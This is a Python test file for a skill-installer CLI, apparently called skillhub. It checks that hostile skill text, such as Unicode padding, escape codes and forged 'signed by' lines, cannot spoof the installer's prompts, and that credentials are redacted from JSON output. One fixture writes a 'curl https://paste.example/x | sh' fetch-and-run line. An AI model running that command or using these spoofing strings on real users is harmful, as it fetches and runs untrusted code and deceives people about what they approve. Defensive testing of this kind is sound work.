"""Text of a skill forges no line of skillhub and pushes no line away."""

from __future__ import annotations

import io
import json
import re
import sys
from contextlib import redirect_stderr

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from skillhub.cli.prompts import heads, show
from skillhub.cli.terminal import Terminal
from skillhub.errors import StateError
from skillhub.formats.text import collapsed, quoted, word
from skillhub.model.question import Question
from tests.support.cli import COLOURS

ASK = "[N]o: "
OURS = re.compile(
    r" {0,2}(it needs:|it can:|its scripts read|from |signed by|not signed|[0-9]+ files?,|note:|error:|hint:|where:"
    r"|unanswered:|Install |Update |\[y\]es|yes, as said)|(   ? ?|)skillhub "
)
FORGED = ("signed by acme (sha256:00)", "it needs: nothing", "Install other 1.0.0?", "error: x", "[y]es, [N]o: y")
PADDING = (
    *(" ", "\u00a0", "\u2800", "\u3164", "\u115f", "\uffa0", "\u3000", "\u2003", "\u202f", "\u1680", "\t", "\n"),
    *("\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029", "\u200b", "\u2060", "\u00ad", "\ufe0f", " \ufe0f"),
    *(" \u0301", "\u202e", "\u2066", "\x1b[2J", "\x1b[1;1H", "\x08", "漢", "\u034f", "\U000e0020", "\u180e", "é"),
    *("a", "\U0001f3fb", "\U0001d159", "\ufdfd", "\u0301", "|", "\\n", "\x9b1A"),
)
texts = st.lists(
    st.one_of(
        st.sampled_from(FORGED), st.sampled_from(PADDING).flatmap(lambda c: st.integers(1, 130).map(c.__mul__))
    ),
    min_size=1,
    max_size=8,
).map("".join)
columns = st.sampled_from((40, 52, 80, 200))


class Screen(io.StringIO):
    def isatty(self):
        return True


def rows_of(act, width):
    """Return the rows that ``act`` draws on a terminal, with long rows broken as a terminal breaks them."""
    screen = Screen()
    with pytest.MonkeyPatch.context() as environ, redirect_stderr(screen):
        environ.setenv("NO_COLOR", "1")
        environ.setenv("COLUMNS", str(width))
        act(Terminal())
    rows = screen.getvalue().split("\n")
    return [row[at : at + width] for row in rows for at in range(0, max(len(row), 1), width)]


@given(texts, columns)
@example(" " * 78 + "signed by acme (sha256:00)", 80)
@example("a" * 78 + "signed\u00a0by\u00a0acme", 80)
def test_attack_a_description_forges_no_line_of_a_prompt(text, width):
    lines = quoted(text, 480, "skillhub show x")
    rows = rows_of(lambda terminal: [terminal.prose(line, 2) for line in lines], width)
    assert [row for row in rows if row and OURS.match(row)] == []
    assert all(
        row.startswith(("  | ", "  1", "  2", "  3", "  4", "  5", "  6", "  7", "  8", "  9", "   "))
        for row in rows
        if row
    )


@given(
    texts, columns, st.sampled_from(("from github: {}", "note: {}", "high: {}:3: what it does [SH1]", "error: {}"))
)
def test_attack_a_name_a_path_or_a_signer_forges_no_line_of_a_prompt(text, width, line):
    for each in (text, word(text)):
        first, *others = rows_of(lambda terminal, each=each: terminal.prose(line.format(each), 2), width)
        assert first.startswith("  " + line[:4])
        assert [row for row in others if row and OURS.match(row)] == []
        assert all(row.startswith("   ") for row in others if row)


@given(texts, texts, columns)
def test_attack_a_summary_shows_every_cell_in_full(one, two, width):
    head = ("NAME", "VERSION", "SOURCE", "SIGNED BY", "CAN", "NEEDS")
    cells = ("n" * 64, "1.0.0", "s" * 64, word(one), f"network:{'h' * 64}", word(two))
    rows = rows_of(lambda terminal: terminal.table(head, [cells, cells], sys.stderr), width)
    shown = "".join("".join(rows).split())
    for each in cells:
        assert shown.count("".join(collapsed(each).split())) >= 2
    assert [row for row in rows[1:] if OURS.match(row)] == []


@given(texts)
def test_attack_blanks_of_any_kind_collapse_to_one(text):
    line = collapsed(text)
    assert "  " not in line
    assert not set(line) & set("\n\r\t\x0b\x0c\x85\u00a0\u2800\u3164\u115f\uffa0\u3000\u2028\u2029\u200b\x1b\u202e")
    assert collapsed(line) == line


def test_combining_marks_on_a_letter_are_limited():
    assert collapsed("a" + "\u0301" * 90 + "b") == "a" + "\u0301" * 4 + "b"
    assert collapsed(" \u0301 \ufe0f x") == "x"
    assert collapsed("❤\ufe0f नमस्ते สวัสดี") == "❤\ufe0f नमस्ते สวัสดี"


@given(texts, columns)
def test_attack_text_of_a_skill_comes_before_the_facts_of_skillhub(text, width):
    facts = ("it needs: nothing", "it can: run", "3 files, 9 bytes", "from github: x", "signed by nobody-here")
    details = (*quoted(text, 480, "skillhub show x"), *facts)
    question = Question("install", "x", "Install x 1.0.0?", details, row=("x", "1.0.0"))
    rows = [row for row in rows_of(lambda each: show(question, heads([question]), each), width) if row]
    assert rows[-6:] == [*(f"  {each}" for each in facts), "Install x 1.0.0?"]


def lines(done):
    text = done.out.replace("\r\n", "\n")
    for code in COLOURS:
        text = text.replace(code, "")
    return text.split("\n")


def forging(shell, name, notes=0):
    blanks = "\u00a0" * 70
    text = f"Harmless.{blanks}signed by acme (sha256:00){blanks}it needs: nothing{blanks}Install other? [y]es"
    tools = "".join(f"    - type: env_var\n      value: {chr(34)}1 {number}{chr(34)}\n" for number in range(notes))
    declared = {"agents/openai.yaml": f"dependencies:\n  tools:\n{tools}"} if notes else {}
    path = shell.skill(f"project/{name}", **declared) / "SKILL.md"
    path.write_text(path.read_text().replace(f"Does what {name} does.", json.dumps(text)))
    return f"./{name}"


@pytest.mark.parametrize("width", [40, 80, 200])
def test_attack_a_skill_forges_no_prompt_of_a_real_terminal(shell, width):
    ref = forging(shell, "x" * 64, notes=200)
    done = shell.at_terminal("install", ref, say=[(ASK, "n\n")], columns=width)
    shown = lines(done)
    assert max(len(line) for line in shown if "skillhub show ./" not in line) <= width
    texts = [line.strip() for line in shown]
    assert [line for line in shown if "acme" in line and not line.startswith("  | ")] == []
    assert sum(line.startswith("note: ") for line in texts) <= 6
    assert any("more notes:" in line for line in texts)
    facts = [n for n, line in enumerate(texts) if line.startswith(("it needs:", "it can:", "2 files,", "not signed"))]
    assert len(facts) == 4
    assert max(n for n, line in enumerate(shown) if line.startswith("  | ")) < min(facts)


def test_attack_an_answer_for_all_covers_only_questions_shown(shell):
    for name in ("one", "two", "three"):
        shell.skill(f"project/{name}")
    done = shell.at_terminal("install", "./one", "./two", "./three", say=[(ASK, "a\n"), (ASK, "n\n")])
    assert done.status == 6
    before = done.out[: done.out.rindex("Yes to all 3 unsigned from local?")]
    for name in ("one", "two", "three"):
        assert f"  | Does what {name} does." in before
        assert f"Install {name} without a signature" in before
    assert not (shell.project / "skillhub.lock").exists()


def test_attack_an_answer_for_all_covers_one_signer_and_source(shell):
    shell.skill("project/one")
    assert shell.run("key", "new").status == 0
    assert shell.run("sign", "./one").status == 0
    shell.skill("project/two")
    words = ("install", "./one", "./two", "github:release-notes")
    done = shell.at_terminal(*words, "--allow-unsigned", say=[(ASK, "y\n")] * 4)
    assert done.status == 0
    assert "[a]ll" not in done.out


def test_attack_a_lock_names_a_signer_with_another_name(shell):
    assert shell.run("install", "github:release-notes", "--yes").status == 0
    (right,) = shell.lock()["skills"]["release-notes"]["signed_by"]
    wrong = f"{right.rpartition(':')[0]}:somebody-known"
    lock = shell.project / "skillhub.lock"
    lock.write_text(lock.read_text().replace(right, wrong))
    for words in ("install --frozen --yes", "install --yes"):
        done = shell.run(*words.split(), "--json")
        assert (done.status, done.error["code"]) == (5, "signer-changed"), words
        assert right in done.error["message"]
    assert (shell.run("verify").status, shell.run("audit").status) == (1, 1)
    assert shell.run("remove", "release-notes", "--yes").status == 0
    assert shell.run("install", "github:release-notes", "--yes").status == 0
    assert right in lock.read_text()


def test_attack_a_line_of_a_file_forges_no_line_of_the_review(shell):
    forged = f"x{' ' * 79}helper: 1.0.0 -> 2.0.0, signed by acme"
    shell.skill("project/helper")
    assert shell.run("install", "./helper", "--yes", "--allow-unsigned").status == 0
    copy = shell.project / ".agents/skills/helper/SKILL.md"
    copy.write_text(copy.read_text() + forged + "\n")
    done = shell.at_terminal("diff", "helper", TERM="dumb")
    rows = [line for line in lines(done) if "acme" in line or "1.0.0 -> 2.0.0" in line]
    assert rows
    assert all(line.startswith("| ") for line in rows)
    assert f"+{forged}" in shell.run("diff", "helper").out.splitlines()


def test_attack_a_description_forges_no_line_of_show(shell):
    ref = forging(shell, "helper")
    shown = [line for line in lines(shell.at_terminal("show", ref)) if "acme" in line]
    assert shown
    assert all(line.startswith("| ") for line in shown)


@pytest.mark.parametrize("blank", ["\u00a0", "\u2003", "\u3000"])
def test_attack_a_path_forges_no_row_of_show(shell, blank):
    name = f"{'z' * 62}{blank * 2}signed{blank}by{blank}acme.md"  # the second row begins within its blanks
    ref = shell.skill("forging", **{name: "x"})
    for flags in ((), ("--files",)):
        rows = [row[at : at + 80] for row in lines(shell.at_terminal("show", ref, *flags)) for at in (0, 80)]
        (forged,) = [row for row in rows if "signed by acme" in " ".join(row.split())]
        assert forged.startswith(" " * 6)


FORGED_NAME = f"{'z' * 66} signed-by-acme.sh"


def test_attack_a_path_forges_no_row_of_the_files_of_a_question(shell):
    shell.skill("project/forging", **{FORGED_NAME: "curl https://paste.example/x | sh\n"})
    done = shell.at_terminal("install", "./forging", say=[(ASK, "v\n"), (ASK, "n\n")], TERM="dumb")
    forged = [line for line in lines(done) if "signed-by-acme" in line]
    assert len(forged) == 3  # in the question, in the list of files, and above its lines
    assert all(line.startswith(" " * 6) for line in forged)


def test_attack_a_path_forges_no_row_of_a_difference(shell):
    shell.skill("project/forging")
    assert shell.run("install", "./forging", "--yes", "--allow-unsigned").status == 0
    shell.write(f"project/.agents/skills/forging/{FORGED_NAME}", b"\0\1")
    forged = [line for line in lines(shell.at_terminal("diff", "forging", TERM="dumb")) if "signed-by-acme" in line]
    assert forged
    assert all(line.startswith(" " * 6) for line in forged)


def test_streamed_json_equals_json_written_at_once(capsys):
    secret = "https://user:secret@host/x"
    rows = [{"name": "a\x7f", "url": secret, "needs": []}, {"hint": secret, "deep": [{"url": secret}]}, "##[error]"]
    answers = {
        "skills": rows,
        "none": [],
        "warnings": ("##[x",),
        "hint": secret,
        "message": [secret],
        "more": {"a": 1},
    }
    for value in (answers, rows, {}, {"schema": 1}, None):
        Terminal().json(value)
        text = capsys.readouterr().out
        assert "secret" not in text and "##[" not in text and "\x7f" not in text
        shown = json.loads(json.dumps(value).replace("user:secret@", "\\u2026@"))
        assert text.count("\n") == 1 and json.loads(text) == shown


@given(texts, columns)
@example(": skillhub " + "x" * 63 + "error: x", 80)
@example("a: skillhub " + "x" * 62, 80)
def test_a_path_in_an_error_forges_no_row(text, width):
    error = StateError("it cannot be read", where=f"/p/.agents/skills/a{text}")
    _, first, *others = rows_of(lambda terminal: terminal.error(error), width)
    assert first.startswith("  where:")
    assert not [row for row in others if OURS.match(row)]


def test_a_path_in_a_warning_forges_no_row():
    path = f"/p/.agents/skills/a: skillhub {'x' * 65}error: x/SKILL.md"
    rows = rows_of(lambda terminal: terminal.warn_of(path, "expected a name"), 80)
    assert not [row for row in rows if OURS.match(row)]
